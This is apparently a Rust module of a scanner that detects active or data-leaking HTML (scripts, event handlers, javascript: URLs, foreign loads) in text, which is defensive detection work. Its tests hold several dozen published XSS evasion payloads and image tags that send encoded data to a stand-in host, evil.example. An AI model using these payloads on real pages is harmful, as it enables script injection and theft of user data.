//! What a browser would run or load.

use std::ops::Range;

use bartizan_core::Rule;
use html5ever::tokenizer::{Tag, TagKind};

use super::{
    address::{Address, AllowedHosts},
    hazard::{Hazard, window},
    rules,
    style::{self, StyleHazard},
    tags::{Found, Tags},
};

/// Bytes of a style element that are read.
const MAX_SHEET: usize = 4 << 10;

/// Reports the hazards of `text` between the tags of a page.
pub(super) fn hazards(text: &str, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    for found in Tags::new(text) {
        let first = out.len();
        element(&found.tag, &found.range, allowed, out);
        if found.tag.kind == TagKind::StartTag && &*found.tag.name == "style" {
            sheet(text, &found, allowed, out);
        }
        if found.cut_off {
            // What follows in the page decides; the hazard needs a tag end from there.
            for hazard in out.iter_mut().skip(first) {
                hazard.confidence *= 0.7;
            }
        }
    }
}

/// Elements that are hazards by their name.
fn by_name(name: &str) -> Option<(&'static Rule, f32)> {
    Some(match name {
        "script" => (&rules::HTML_SCRIPT, 0.98),
        "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "portal" | "base"
        | "fencedframe" | "layer" | "ilayer" | "bgsound" | "xml" => {
            (&rules::HTML_ACTIVE_ELEMENT, 0.95)
        }
        "animate" | "animatetransform" | "animatemotion" | "animatecolor" | "set"
        | "foreignobject" | "handler" | "listener" => (&rules::HTML_ACTIVE_ELEMENT, 0.85),
        "form" => (&rules::HTML_FORM, 0.8),
        _ => return None,
    })
}

fn element(tag: &Tag, range: &Range<usize>, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    if tag.kind == TagKind::EndTag {
        return;
    }
    let mut report = |rule, confidence| out.push(Hazard::new(rule, range.clone(), confidence));
    let name = tag.name.to_ascii_lowercase();
    // `<svg:script>` is a script, too, where namespaces are read.
    let name = name.rsplit(':').next().unwrap_or_default();
    if let Some((rule, confidence)) = by_name(name) {
        report(rule, confidence);
    }
    for attribute in &tag.attrs {
        let attribute_name = attribute.name.local.to_ascii_lowercase();
        let value: &str = &attribute.value;
        match (name, &*attribute_name) {
            ("meta", "http-equiv") if is_active_meta(value) => {
                report(&rules::HTML_ACTIVE_ELEMENT, 0.9)
            }
            ("link", "rel") if is_active_link(value) => report(&rules::HTML_ACTIVE_ELEMENT, 0.85),
            ("template", "shadowrootmode") => report(&rules::HTML_ACTIVE_ELEMENT, 0.5),
            (_, "srcdoc") => report(&rules::HTML_SRCDOC, 0.95),
            (_, "formaction") => report(&rules::HTML_FORM, 0.9),
            (_, "style") => match style::hazard(value, allowed) {
                Some(StyleHazard::Active) => report(&rules::HTML_STYLE, 0.9),
                Some(StyleHazard::Loads) => report(&rules::HTML_RESOURCE, 0.8),
                None => {}
            },
            (_, handler) if is_handler(handler) => report(&rules::HTML_EVENT_HANDLER, 0.97),
            _ => {}
        }
        if let Some((rule, confidence)) = address(name, &attribute_name, value, allowed) {
            report(rule, confidence);
        }
        if hides_handler(value) {
            report(&rules::HTML_EVENT_HANDLER, 0.5);
        }
        if is_nested(value) && &*attribute_name != "srcdoc" {
            let mut inner = Vec::new();
            hazards_within(value, allowed, &mut inner);
            if !inner.is_empty() {
                report(&rules::HTML_NESTED_MARKUP, 0.7);
            }
        }
    }
}

/// Reports what is active in the value of an attribute, tags within tags no further.
fn hazards_within(value: &str, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    for found in Tags::new(value) {
        let mut tag = found.tag;
        tag.attrs.retain(|attribute| !is_nested(&attribute.value));
        element(&tag, &found.range, allowed, out);
    }
}

fn is_nested(value: &str) -> bool {
    memchr::memchr(b'<', value.as_bytes()).is_some()
}

/// `on` and at least two letters.
fn is_handler(name: &str) -> bool {
    name.strip_prefix("on")
        .is_some_and(|event| event.len() >= 2 && event.bytes().all(|b| b.is_ascii_alphabetic()))
}

/// Old engines took backticks for quotes, so that a handler may follow what looks like one value.
fn hides_handler(value: &str) -> bool {
    value.split('`').nth(2).is_some_and(|after| {
        after
            .split_once('=')
            .is_some_and(|(name, _)| is_handler(name.trim()))
    })
}

fn is_active_meta(value: &str) -> bool {
    let value = value.trim().to_ascii_lowercase();
    matches!(
        value.as_str(),
        "refresh" | "set-cookie" | "content-security-policy" | "x-ua-compatible" | "link"
    )
}

fn is_active_link(value: &str) -> bool {
    value.split_ascii_whitespace().any(|rel| {
        let rel = rel.to_ascii_lowercase();
        matches!(
            rel.as_str(),
            "import"
                | "stylesheet"
                | "preload"
                | "prefetch"
                | "prerender"
                | "modulepreload"
                | "dns-prefetch"
                | "preconnect"
                | "manifest"
        )
    })
}

/// Attributes whose value is an address, and whether a browser loads it by itself.
fn address(
    element: &str,
    attribute: &str,
    value: &str,
    allowed: &AllowedHosts,
) -> Option<(&'static Rule, f32)> {
    let loads = match (element, attribute) {
        ("a" | "area", "href" | "xlink:href") => false,
        (
            _,
            "src" | "href" | "xlink:href" | "data" | "poster" | "background" | "manifest" | "ping"
            | "dynsrc" | "lowsrc" | "codebase" | "classid" | "archive" | "profile" | "longdesc"
            | "icon" | "srcset" | "imagesrcset",
        ) => true,
        (
            _,
            "action" | "formaction" | "cite" | "to" | "from" | "values" | "by" | "content"
            | "folder",
        ) => {
            return value
                .split([';', '='])
                .any(|part| {
                    Address::parse(part).runs_script() || Address::parse(value).runs_script()
                })
                .then_some((&rules::HTML_SCRIPT_URL, 0.9));
        }
        _ => return None,
    };
    let candidates = if attribute.ends_with("srcset") {
        value
    } else {
        ""
    };
    let candidates = candidates
        .split(',')
        .filter_map(|candidate| candidate.split_ascii_whitespace().next());
    let whole = (!attribute.ends_with("srcset")).then_some(value);
    for text in whole.into_iter().chain(candidates) {
        let address = Address::parse(text);
        if address.runs_script() {
            return Some((&rules::HTML_SCRIPT_URL, 0.97));
        }
        if address.is_foreign(allowed) {
            let carries = address.carries();
            if loads {
                return Some((&rules::HTML_RESOURCE, 0.6 + 0.35 * carries));
            }
            if carries > 0.0 {
                return Some((&rules::HTML_LINK, 0.3 + 0.4 * carries));
            }
        }
    }
    None
}

/// Looks at the sheet that follows the tag of a style element.
fn sheet(text: &str, found: &Found, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    let css = window(text, found.range.end, MAX_SHEET);
    let css = css.split_once("</").map_or(css, |(sheet, _)| sheet);
    let range = found.range.start..found.range.end + css.len();
    match style::hazard(css, allowed) {
        Some(StyleHazard::Active) => out.push(Hazard::new(&rules::HTML_STYLE, range, 0.9)),
        Some(StyleHazard::Loads) => out.push(Hazard::new(&rules::HTML_RESOURCE, range, 0.8)),
        // Selectors alone can read a page, but not send what they read.
        None => out.push(Hazard::new(&rules::HTML_STYLE, range, 0.3)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        let allowed = AllowedHosts::new(["example.com"]).unwrap();
        hazards(text, &allowed, &mut out);
        out.iter().map(|hazard| &*hazard.rule.id).collect()
    }

    /// Published ways in (OWASP XSS filter evasion, PortSwigger, html5sec), one of each kind.
    const ATTACKS: [&str; 48] = [
        "<script>alert(1)</script>",
        "<script src=//evil.example></script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<script\n\ttype=text/javascript>alert(1)",
        "<<script>alert(1)//<</script>",
        "<scr\u{0}ipt>x</scr\u{0}ipt><svg onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<IMG SRC=\"javascript:alert('x');\">",
        "<img src=`x`onerror=alert(1)>",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
        "<svg><foreignObject><body onload=alert(1)>",
        "<math><mtext><a xlink:href=\"javascript:alert(1)\">x</a>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"java\nscript&colon;alert(1)\">x</a>",
        "<a href=\" \u{1}javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<object data=\"data:text/html,x\"></object>",
        "<embed src=//evil.example/x.swf>",
        "<applet code=x>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<div style=\"width:expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<style>@import '//evil.example/x.css';</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<img src='https://evil.example/?",
    ];

    #[test]
    fn ws_30_no_published_way_in_is_missed() {
        for attack in ATTACKS {
            assert!(!found(attack).is_empty(), "{attack}");
            assert!(!found(&format!("Sure! {attack}")).is_empty(), "{attack}");
        }
    }

    #[test]
    fn ordinary_prose_and_pages_pass() {
        for text in [
            "if a < b and b > c, then a<b",
            "I <3 it; Vec<String> and HashMap<K, V>; x <- y",
            "<p>Hello <b>world</b> <a href=\"https://example.com/docs?x=1\">docs</a></p>",
            "<a href=/relative?x=1>r</a> <a href=\"https://rust-lang.org/learn\">learn</a>",
            "<a href=\"mailto:a@b.example\">mail</a>",
            "<table class=t><tr><td colspan=2>one</td></tr></table>",
            "<pre><code class=\"language-rust\">fn main() {}</code></pre>",
            "<img src=\"https://cdn.example.com/logo.png\" alt=logo>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "<p style=\"color: red\">x</p><br/><hr>",
            "<details><summary>more</summary>text</details>",
            "<option value=on>one</option>",
        ] {
            assert_eq!(found(text), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn what_carries_data_out_is_told_from_what_does_not() {
        assert_eq!(
            found("<img src=https://evil.example/?d=c2VjcmV0>"),
            [rules::HTML_RESOURCE.id.as_ref()]
        );
        assert_eq!(
            found("<a href=https://evil.example/?d=c2VjcmV0>x</a>"),
            [rules::HTML_LINK.id.as_ref()]
        );
        assert_eq!(
            found("<img src=//example.com@evil.example/>"),
            [rules::HTML_RESOURCE.id.as_ref()]
        );
    }
}
